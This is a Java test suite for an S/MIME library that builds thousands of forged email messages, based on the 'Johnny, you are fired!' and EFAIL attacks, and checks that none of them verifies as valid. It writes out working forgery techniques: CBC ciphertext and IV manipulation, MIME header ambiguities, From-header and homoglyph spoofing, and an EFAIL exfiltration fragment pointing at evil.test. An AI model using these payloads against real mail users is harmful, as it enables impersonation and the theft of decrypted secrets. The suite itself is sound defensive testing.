package org.siegel.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.siegel.trust.Forgery.ALICE;
import static org.siegel.trust.Forgery.EVE;
import static org.siegel.trust.Forgery.FAKE;
import static org.siegel.trust.Forgery.message;
import static org.siegel.trust.Forgery.multipart;

import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.DERSet;
import org.bouncycastle.asn1.cms.CMSObjectIdentifiers;
import org.bouncycastle.asn1.cms.ContentInfo;
import org.bouncycastle.asn1.cms.SignedData;
import org.bouncycastle.asn1.cms.SignerInfo;
import org.junit.jupiter.api.Test;
import org.siegel.smime.ContentCipher;
import org.siegel.smime.Inspection;
import org.siegel.smime.SignOptions.Form;
import org.siegel.smime.SmimeException;

/**
 * Thousands of forged messages after "Johnny, you are fired!" (USENIX Security 2019) and EFAIL (2018), of which none may come
 * out valid. docs/vulnerabilities.md says for each class what prevents it.
 */
class ForgedMessageTest {

    private static final List<String> WRAPPERS = List.of(
            "mixed",
            "alternative",
            "related",
            "related; type=\"text/html\"; start=\"<signed>\"",
            "report",
            "digest",
            "parallel",
            "appledouble",
            "form-data",
            "x-unknown",
            "signed; protocol=\"application/pgp-signature\"");

    private final List<String> wrong = new ArrayList<>();
    private int tried;

    private void notValid(String name, String message, SenderPolicy... policies) {
        for (SenderPolicy policy : policies) {
            tried++;
            if (Forgery.code(message, policy).equals("valid")) {
                wrong.add(name + ", sender " + policy);
            }
        }
    }

    private void none(int atLeast) {
        assertThat(wrong).isEmpty();
        assertThat(tried).isGreaterThanOrEqualTo(atLeast);
    }

    /** Else all that follows proves nothing. */
    @Test
    void whatAliceSignedIsValidAndStaysSoWhereNothingIsAdded() {
        String blank = "Content-Type: text/plain\r\n\r\n\r\n";
        Forgery.good().forEach((name, good) -> {
            assertThat(Forgery.code(message(ALICE, good), SenderPolicy.REQUIRED))
                    .as(name)
                    .isEqualTo("valid");
            for (String wrapped : List.of(multipart("mixed", good), multipart("mixed", good, blank))) {
                assertThat(Forgery.code(message(ALICE, wrapped), SenderPolicy.REQUIRED))
                        .as(name)
                        .isEqualTo("valid");
            }
        });
        for (String from : List.of(
                "Alice <" + ALICE + ">",
                "\"" + ALICE + "\" <" + ALICE + ">",
                "ALICE@Example.COM",
                "Alice @ Work <" + ALICE + ">",
                "=?utf-8?q?=C3=84lice?= <" + ALICE + ">",
                "The Staff: " + ALICE + ";",
                ALICE + " (on the road)",
                ALICE + "\r\nReply-To: list@example.org\r\nSender: list@example.org")) {
            assertThat(Forgery.code(message(from, Forgery.alicesClear()), SenderPolicy.REQUIRED))
                    .as(from)
                    .isEqualTo("valid");
        }
    }

    /** MIME M1 to M4, and EFAIL's direct exfiltration: parts put beside what Alice signed or what Bob can decrypt. */
    @Test
    void nothingBesideASignedPartIsCoveredByIt() {
        Map<String, String> fakes = Forgery.fakes();
        Forgery.good()
                .forEach((goodName, good) -> fakes.forEach((fakeName, fake) -> {
                    for (String wrapper : goodName.matches("clear|clear in CBC") ? WRAPPERS : WRAPPERS.subList(0, 1)) {
                        String name = goodName + " and " + fakeName + " in " + wrapper;
                        notValid(name, message(ALICE, multipart(wrapper, good, fake)), SenderPolicy.IGNORED);
                        notValid(
                                name + ", fake first",
                                message(ALICE, multipart(wrapper, fake, good)),
                                SenderPolicy.IGNORED);
                    }
                    String nested = multipart("mixed", multipart("alternative", good), multipart("related", fake));
                    notValid(goodName + " apart from " + fakeName, message(ALICE, nested), SenderPolicy.IGNORED);
                    String forwarded = "Content-Type: message/rfc822\r\n\r\n" + message(ALICE, good);
                    notValid(
                            "forwarded " + goodName,
                            message(ALICE, multipart("mixed", fake, forwarded)),
                            SenderPolicy.IGNORED);
                }));
        none(2_300);
    }

    /** The same inside of encryption, which anybody can put around anything: plain, beside and within each other. */
    @Test
    void encryptionAroundAForgeryMakesItNoBetter() {
        Forgery.good()
                .forEach((goodName, good) -> Forgery.fakes().forEach((fakeName, fake) -> {
                    for (ContentCipher cipher : List.of(ContentCipher.AES_128_CBC, ContentCipher.AES_256_GCM)) {
                        String inside = Forgery.encrypted(multipart("mixed", fake, good), cipher);
                        notValid(
                                goodName + " and " + fakeName + " in " + cipher,
                                message(ALICE, inside),
                                SenderPolicy.IGNORED);
                    }
                }));
        none(500);
    }

    /** EFAIL: an honest signature does not make one text of parts that were encrypted apart from each other. */
    @Test
    void ciphertextOfOthersInsideOfASignedMessageIsNamed() {
        String secret = Forgery.encrypted("Content-Type: text/plain\r\n\r\nThe secret.\r\n", ContentCipher.AES_128_CBC);
        String open = "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/\r\n";
        List<String> forms = List.of(
                multipart("mixed", open, secret, "Content-Type: text/html\r\n\r\n\">\r\n"),
                multipart("mixed", Forgery.encrypted(open, ContentCipher.AES_256_GCM), secret),
                Forgery.encrypted(multipart("mixed", open, secret), ContentCipher.AES_256_GCM),
                multipart("alternative", multipart("related", open, secret)));
        for (String form : forms) {
            for (String entity : List.of(form, Forgery.eves(form, Form.CLEAR), Forgery.eves(form, Form.OPAQUE))) {
                String message = message(EVE, entity);
                Inspection found = Forgery.inspect(message);
                assertThat(found.encryption()).anyMatch(e -> !e.whole());
                assertThat(found.parts().stream()
                                .map(Inspection.PartReport::encryptions)
                                .distinct()
                                .count())
                        .isGreaterThan(1);
                notValid("ciphertext of others", message, SenderPolicy.REQUIRED, SenderPolicy.IGNORED);
            }
        }
        none(24);
        // and what is decrypted never comes out together with what stood beside it
        for (String form : List.of(forms.get(0), forms.get(1), forms.get(3))) {
            assertThatThrownBy(() -> Forgery.decrypt(message(EVE, form)))
                    .isInstanceOf(SmimeException.Malformed.class)
                    .hasMessageContaining("not encrypted");
        }
        assertThat(Forgery.decrypt(message(EVE, forms.get(2)))).doesNotContain("The secret.");
    }

    /** EFAIL: the blocks of CBC can be turned and moved without a key. What is signed inside comes out whole or is not valid. */
    @Test
    void changedCiphertextIsNeverValid() {
        for (String form : List.of("clear in CBC", "opaque in GCM", "CBC in GCM")) {
            String message = message(ALICE, Forgery.good().getOrDefault(form, ""));
            int body = message.indexOf("\r\n\r\n") + 4;
            byte[] cms = Base64.getMimeDecoder().decode(message.substring(body));
            String signed = form.startsWith("clear") ? Forgery.TEXT : Forgery.decrypt(message);
            Random random = new Random(form.hashCode());
            for (int i = 0; i < 500; i++) {
                byte[] changed = cms.clone();
                int at = 60 + random.nextInt(cms.length - 100);
                switch (i % 3) {
                    case 0 -> changed[at] ^= (byte) (1 + random.nextInt(255));
                    case 1 -> System.arraycopy(cms, at, changed, at + 16, Math.min(16, cms.length - at - 16));
                    default -> System.arraycopy(cms, cms.length - at - 16, changed, at, 16);
                }
                if (!java.util.Arrays.equals(changed, cms)) {
                    String text = Base64.getMimeEncoder().encodeToString(changed);
                    String altered = message.substring(0, body) + text + "\r\n";
                    String code = Forgery.code(altered, SenderPolicy.IGNORED);
                    tried++;
                    if (code.equals("valid") && !Forgery.decrypt(altered).contains(signed)) {
                        wrong.add(form + " " + i);
                    }
                }
            }
        }
        none(1_400);
    }

    /** EFAIL: whoever knows how a message begins writes another beginning into it, by the IV of CBC alone. */
    @Test
    void aChosenBeginningIsNeverSigned() {
        String good = Forgery.good().getOrDefault("clear in CBC", "");
        int body = good.indexOf("\r\n\r\n") + 4;
        byte[] cms = Base64.getMimeDecoder().decode(good.substring(body));
        String before = new String(cms, java.nio.charset.StandardCharsets.ISO_8859_1);
        int iv = before.indexOf("\u0060\u0086H\u0001e\u0003\u0004\u0001\u0002\u0004\u0010") + 11; // aes128-CBC, its IV
        String known = "Content-Type: mu";
        for (String chosen : List.of(
                "Content-Type: te",
                "Content-Type:a/b",
                "\r\n<img src=\"//e.",
                "X: \r\n\r\n<a href='",
                "Content-Type: x\n",
                "Content-type: Mu",
                "CONTENT-TYPE: mu",
                "Subject: FIREDxx")) {
            byte[] changed = cms.clone();
            for (int i = 0; i < 16; i++) {
                changed[iv + i] ^= (byte) (known.charAt(i) ^ chosen.charAt(i));
            }
            String forged = message(
                    ALICE, good.substring(0, body) + Base64.getMimeEncoder().encodeToString(changed));
            String plain = Forgery.decrypt(forged);
            assertThat(plain.substring(plain.indexOf("MIME-Version: 1.0\r\n") + 19))
                    .startsWith(chosen);
            boolean same = chosen.equalsIgnoreCase(known);
            assertThat(Forgery.code(forged, SenderPolicy.IGNORED)).as(chosen).isEqualTo(same ? "valid" : "unsigned");
        }
    }

    /** A signature over attributes, turned into one over a content that is those attributes. */
    @Test
    void signedAttributesAreNoContent() throws Exception {
        String opaque = Forgery.good().getOrDefault("opaque", "");
        byte[] cms = Base64.getMimeDecoder().decode(opaque.substring(opaque.indexOf("\r\n\r\n") + 4));
        var signed = SignedData.getInstance(ContentInfo.getInstance(cms).getContent());
        var signer = SignerInfo.getInstance(signed.getSignerInfos().getObjectAt(0));
        var bare = new SignerInfo(
                signer.getSID(),
                signer.getDigestAlgorithm(),
                (org.bouncycastle.asn1.ASN1Set) null,
                signer.getDigestEncryptionAlgorithm(),
                signer.getEncryptedDigest(),
                null);
        var attributes = new DEROctetString(signer.getAuthenticatedAttributes().getEncoded("DER"));
        var forged = new SignedData(
                signed.getDigestAlgorithms(),
                new ContentInfo(CMSObjectIdentifiers.data, attributes),
                signed.getCertificates(),
                null,
                new DERSet(bare));
        String text = Base64.getMimeEncoder()
                .encodeToString(new ContentInfo(CMSObjectIdentifiers.signedData, forged).getEncoded("DER"));
        String message = message(ALICE, opaque.substring(0, opaque.indexOf("\r\n\r\n") + 4) + text + "\r\n");
        assertThat(Forgery.code(message, SenderPolicy.REQUIRED)).isEqualTo("ambiguous");
    }

    /** Any tree of parts with something in it that Alice did not write. */
    @Test
    void noTreeWithAForgedLeafIsValid() {
        List<String> good = List.copyOf(Forgery.good().values());
        List<String> fakes = List.copyOf(Forgery.fakes().values());
        for (int seed = 0; seed < 500; seed++) {
            Random random = new Random(seed);
            String tree = tree(random, good, fakes, 4, true);
            notValid("tree " + seed, message(ALICE, tree), SenderPolicy.REQUIRED);
        }
        none(500);
    }

    private static String tree(Random random, List<String> good, List<String> fakes, int depth, boolean forged) {
        int children = 1 + random.nextInt(3);
        int forgedAt = random.nextInt(children);
        String[] parts = new String[children];
        for (int i = 0; i < children; i++) {
            boolean fake = forged && i == forgedAt;
            if (depth > 1 && random.nextInt(3) == 0) {
                parts[i] = tree(random, good, fakes, depth - 1, fake);
            } else {
                List<String> from = fake ? fakes : good;
                parts[i] = from.get(random.nextInt(from.size()));
            }
        }
        String wrapped = multipart(WRAPPERS.get(random.nextInt(WRAPPERS.size())), parts);
        return switch (random.nextInt(8)) {
            case 0 -> Forgery.encrypted(wrapped, ContentCipher.AES_256_GCM);
            case 1 -> "Content-Type: message/rfc822\r\n\r\n" + message(ALICE, wrapped);
            case 2 -> Forgery.eves(wrapped, Form.OPAQUE);
            default -> wrapped;
        };
    }

    /** Forms that programs read differently: the one that checks sees Alice's text, another one that of the attacker. */
    @Test
    void aFormOfTwoMeaningsIsNotValid() {
        String good = Forgery.alicesClear();
        String boundary = good.substring(good.indexOf("boundary=\"") + 10);
        boundary = boundary.substring(0, boundary.indexOf('"'));
        String first = "--" + boundary + "\r\n";
        String evil = "--EVIL\r\n" + FAKE + "\r\n--EVIL--\r\n";
        String lookalike = "--" + boundary + "x\r\n" + FAKE;
        String plain = message(ALICE, good);
        String withEvil = plain.replaceFirst("\r\n\r\n", "\r\n\r\n" + evil);
        String type = plain.substring(plain.indexOf("Content-Type: "), plain.indexOf("\r\n\r\n"));

        Map<String, String> all = new LinkedHashMap<>();
        all.put(
                "a second Content-Type before",
                withEvil.replaceFirst(
                        "Content-Type: ", "Content-Type: multipart/mixed; boundary=EVIL\r\nContent-Type: "));
        all.put(
                "a second Content-Type behind",
                withEvil.replace(type, type + "\r\nContent-Type: multipart/mixed; boundary=EVIL"));
        all.put(
                "a second Content-Type in capitals",
                withEvil.replace(type, type + "\r\nCONTENT-TYPE: multipart/mixed; boundary=EVIL"));
        all.put(
                "a second Content-Type, folded",
                withEvil.replace(type, type + "\r\nContent-Type:\r\n multipart/mixed; boundary=EVIL"));
        all.put(
                "a second Content-Type with a blank",
                withEvil.replace(type, type + "\r\nContent-Type : multipart/mixed; boundary=EVIL"));
        all.put("two boundaries", withEvil.replace(type, type + "; boundary=EVIL"));
        all.put("two boundaries, in capitals", withEvil.replace(type, type + "; BOUNDARY=EVIL"));
        all.put("two boundaries, continued", withEvil.replace(type, type + "; boundary*0=EV; boundary*1=IL"));
        all.put("two boundaries, extended", withEvil.replace(type, type + "; boundary*=us-ascii''EVIL"));
        all.put("two protocols", withEvil.replace(type, type + "; protocol=\"application/pgp-signature\""));
        all.put(
                "a transfer encoding around parts",
                plain.replace(type, type + "\r\nContent-Transfer-Encoding: base64"));
        all.put(
                "a quoted-printable multipart",
                plain.replace(type, type + "\r\nContent-Transfer-Encoding: quoted-printable"));
        all.put(
                "two transfer encodings",
                plain.replace(type, type + "\r\nContent-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64"));
        all.put("no MIME and a text before", withEvil.replace("MIME-Version: 1.0\r\n", ""));
        all.put("no MIME and a text behind", plain.replace("MIME-Version: 1.0\r\n", "") + "You are FIRED.\r\n");
        all.put(
                "two MIME-Version fields",
                plain.replace("MIME-Version: 1.0\r\n", "MIME-Version: 1.0\r\nMIME-Version: 2.0\r\n"));
        all.put("a line that begins like a boundary, before", plain.replaceFirst("\r\n\r\n", "\r\n\r\n" + lookalike));
        all.put("a line that begins like a boundary, behind", plain + lookalike);
        all.put("a part behind the last boundary", plain + first + FAKE);
        all.put("a header that ends for some: no colon", plain.replaceFirst("Subject", "\\$\\$\\$\r\nSubject"));
        all.put(
                "a header that ends for some: blanks",
                plain.replaceFirst("Subject: About you", "Subject: About you\r\n  \r\n FIRED"));
        all.put(
                "a header that ends for some: bare CR",
                plain.replaceFirst("Subject: About you", "X: y\r\rYou are FIRED."));
        all.put("a header that ends for some: NUL", plain.replaceFirst("Subject: About you", "Subject: FIRED\0\0"));
        all.put("a field in a field", plain.replaceFirst("Subject", "X: y\rFrom: " + EVE + "\r\nSubject"));
        all.put("two subjects", plain.replaceFirst("Subject", "Subject: FIRED\r\nSubject"));
        all.put(
                "two dates",
                plain.replaceFirst(
                        "Subject",
                        "Date: Mon, 1 Jun 2026 00:00:00 +0000\r\nDate: Tue, 2 Jun 2026 00:00:00 +0000\r\nSubject"));
        all.put("a third part", plain.replace("--" + boundary + "--", first + FAKE + "\r\n--" + boundary + "--"));
        all.put("another part first", plain.replaceFirst(first, first + FAKE + "\r\n" + first));
        all.put(
                "another part between",
                plain.replace(
                        "\r\n" + first + "Content-Type: application/pkcs7-signature",
                        "\r\n" + first + FAKE + "\r\n" + first + "Content-Type: application/pkcs7-signature"));
        all.put("cut off", plain.substring(0, plain.length() - boundary.length() - 8));
        all.put("another text", plain.replace("promoted", "FIRED"));
        all.put("another type of content", message(ALICE, good.replace("text/plain", "text/html")));
        all.put(
                "the wrong smime-type",
                message(ALICE, Forgery.good().getOrDefault("opaque", "").replace("signed-data", "enveloped-data")));
        all.put(
                "signed content elsewhere",
                message(
                        ALICE,
                        Forgery.alices(
                                "Content-Type: message/external-body; access-type=url; url=\"http://x/FIRED\"\r\n\r\n\r\n")));
        all.put(
                "a signed fragment",
                message(
                        ALICE,
                        Forgery.alices("Content-Type: message/partial; id=a; number=1; total=2\r\n\r\nFIRED\r\n")));
        all.forEach((name, forged) -> {
            assertThat(forged).as(name + " is no forgery").isNotEqualTo(plain);
            if (name.equals("a part behind the last boundary")) {
                return; // the boundary has ended the message for everybody; tried below with the line that begins like
                // one
            }
            notValid(name, forged, SenderPolicy.REQUIRED, SenderPolicy.IF_PRESENT, SenderPolicy.IGNORED);
        });
        none(90);
    }

    /** ID I1 to I3: what Eve signed, in a message that shows Alice. */
    @Test
    void whatEveSignedIsNeverAlices() {
        String signed = Forgery.eves(FAKE, Form.CLEAR);
        List<String> fields = new ArrayList<>(List.of(
                "From: " + ALICE,
                "From: Alice <" + ALICE + ">\r\nSender: " + EVE,
                "From: Alice <" + ALICE + ">\r\nReply-To: " + EVE,
                "From: " + ALICE + "\r\nFrom: " + EVE,
                "From: " + EVE + "\r\nFrom: " + ALICE,
                "FROM: " + EVE + "\r\nfrom : " + ALICE,
                "From: " + ALICE + ", " + EVE,
                "From: " + EVE + ", " + ALICE + "\r\nSender: " + EVE,
                "From: Staff: " + ALICE + ", " + EVE + ";",
                "From: " + ALICE + ": " + EVE + ";",
                "From: a: b: " + ALICE + "; " + EVE,
                "From: <" + ALICE + "> <" + EVE + ">",
                "From: <" + EVE + "> <" + ALICE + ">",
                "From: <" + ALICE + "<" + EVE + ">>",
                "From: <" + EVE + ">" + ALICE,
                "From: " + ALICE + " " + EVE,
                "From: <@example.com,@" + ALICE + ":" + EVE + ">",
                "From: (" + ALICE + ") " + EVE,
                "From: " + EVE + " (" + ALICE + ")",
                "From: " + EVE + " ((" + ALICE + "))",
                "From: " + ALICE + "\0 <" + EVE + ">",
                "From: <" + EVE + "\0" + ALICE + ">",
                "From: " + EVE + "\rFrom: " + ALICE,
                "From: =?utf-8?Q?alice=40example.com?=",
                "From: =?utf-8?Q?alice=40example.com=00?= <" + EVE + ">",
                "From: =?utf-8?Q?alice=40example.com=0D=0A?= <" + EVE + ">",
                "From: \"alice@example.com\"@example.com",
                "From: \"alice@example.com \"@example.com",
                "From: alice%example.com@example.org",
                "From: \r\n\t" + ALICE + "\r\nX: y\r\nFrom: " + EVE,
                "From:",
                "From: ;",
                "From: Alice",
                "From: \u0430lice@example.com",
                "From: al\u0131ce@example.com",
                "From: alice@ex\u0430mple.com",
                "Sender: " + EVE,
                "Sender: " + ALICE + "\r\nReply-To: " + EVE,
                "Resent-From: " + EVE + "\r\nFrom: " + ALICE));
        for (String display : List.of(
                "alice@example.com",
                "Alice <alice@example.com>",
                "alice @ example.com",
                "ALICE@EXAMPLE.COM",
                "alice\uff20example.com",
                "alice\ufe6bexample.com",
                "alice@example\u3002com",
                "alice@example\uff0ecom",
                "alice@example\u2024com",
                "alice@exam\u200bple.com",
                "alice@exam\u00adple.com",
                "alice@exam\u2060ple.com",
                "\u202emoc.elpmaxe@ecila\u202c",
                "\u2066alice@example.com\u2069",
                "\u0430lice@example.com",
                "alice@example.com via the list",
                "mailto:alice@example.com",
                "'alice@example.com'",
                "[alice@example.com]",
                "alice@example.com" + " ".repeat(200),
                " ".repeat(50) + "alice@example.com",
                "alice@example.com\t",
                "al\0ice@example.com",
                "\ud835\udc1a\ud835\udc25\ud835\udc22\ud835\udc1c\ud835\udc1e@example.com",
                "a\ufeffl\ufeffice@example.com")) {
            fields.add("From: \"" + display + "\" <" + EVE + ">");
            fields.add("From: " + EVE + " (" + display + ")");
            fields.add("From: =?utf-8?B?" + Base64.getEncoder().encodeToString(Forgery.bytes(display)) + "?= <" + EVE
                    + ">");
            fields.add("From: \"" + display + "\": " + EVE + ";");
        }
        for (String field : fields) {
            String forged = field + "\r\nTo: bob@example.com\r\nMIME-Version: 1.0\r\n" + signed;
            notValid(field, forged, SenderPolicy.REQUIRED, SenderPolicy.IF_PRESENT);
        }
        none(2 * (39 + 100));
    }

    /** A certificate for a name whose letters share their capitals with another name's is not one for that other name. */
    @Test
    void lettersOfOtherScriptsAreNotTheSameLetter() {
        var address = org.siegel.smime.MailAddress.of("mike@example.com");
        for (String other : List.of("m\u0131ke@example.com", "mi\u212ae@example.com", "m\u0456ke@example.com")) {
            assertThat(org.siegel.smime.MailAddress.of(other)).isNotEqualTo(address);
        }
        assertThat(org.siegel.smime.MailAddress.of("MIKE@EXAMPLE.COM")).isEqualTo(address);
    }
}
